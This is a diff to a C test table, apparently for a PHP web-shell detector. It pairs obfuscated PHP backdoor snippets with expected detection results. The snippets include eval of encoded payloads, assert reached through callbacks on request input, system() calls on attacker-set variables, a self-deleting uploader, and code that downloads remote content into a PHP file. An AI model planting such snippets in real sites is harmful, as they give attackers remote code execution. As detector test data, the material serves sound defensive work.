@@ -77,8 +77,8 @@ static const struct row {
     {"<?php $h='X-Mailer: Microsoft Outlook'; $h.='X-MimeOLE: x'; fsockopen($m,25); "
      "fputs($s,'EHLO x'); getmxrr($d,$r);",
      "getmxrr($d,$r)", "php_client_headers", 3},
-    {"<?php foreach($_POST as $k=>$v){$$k=$v;} system($cmd);", "${$k}=$v;", "php_request_all",
-     1},
+    {"<?php foreach($_POST as $k=>$v){$$k=$v;} system($cmd);", "${$k}=$v;",
+     "php_request_all", 1},
     {"<?php $x=array_map('ass'.'ert',array($_REQUEST['c']));", "@@taint assert 1 REQUEST",
      "php_taint_eval", 1},
     {"<?php copy($_FILES['f']['tmp_name'],$_FILES['f']['name']); unlink(__FILE__);",
@@ -86,6 +86,22 @@ static const struct row {
     {"<?php $d=$_COOKIE; $f=$d['a'].$d['b']; $f($d['c']);", "@@taint call 1 COOKIE",
      "php_taint_call", 1},
     {"<?php eval(gzinflate(base64_decode($r)));", "@@opaque eval", "php_eval_opaque", 1},
+    {"<?php ob_start(function($c){register_shutdown_function('assert',$c);}); echo "
+     "$_REQUEST['p']; ob_end_flush();",
+     "@@callback assert", "php_callback_sinks", 1},
+    {"<?php function ff($s){return eval($s);} echo "
+     "filter_var($_POST['a'],FILTER_CALLBACK,array('options'=>'ff'));",
+     "@@taint eval 1 POST", "php_taint_eval", 1},
+    {"<?php $a=new ArrayObject(array($_REQUEST['p']=>2)); $a->uksort('assert');",
+     "@@callback assert", "php_callback_sinks", 1},
+    {"<?php $_=[]; $_=@\"$_\"; $a=$_['!'=='@']; `$a`;", "$a='A';", "php_exec_count", 1},
+    {"<?php function g($u){$c=curl_init($u);return curl_exec($c);} "
+     "$f=fopen('x.php','w'); fwrite($f,g('http://a.bb/c'));",
+     "@@taint fwrite 2 REMOTE", "php_remote_code", 1},
+    {"<?php function "
+     "o($s,$m){$r='';for($i=0;$i<strlen($s);$i++){$r.=isset($m[$s[$i]])?$m[$s[$i]]:$s[$i]"
+     ";}return $r;} system(o('adb',array('d'=>'x')));",
+     "system('axb');", "php_exec_count", 1},
 };
 
 static int64_t
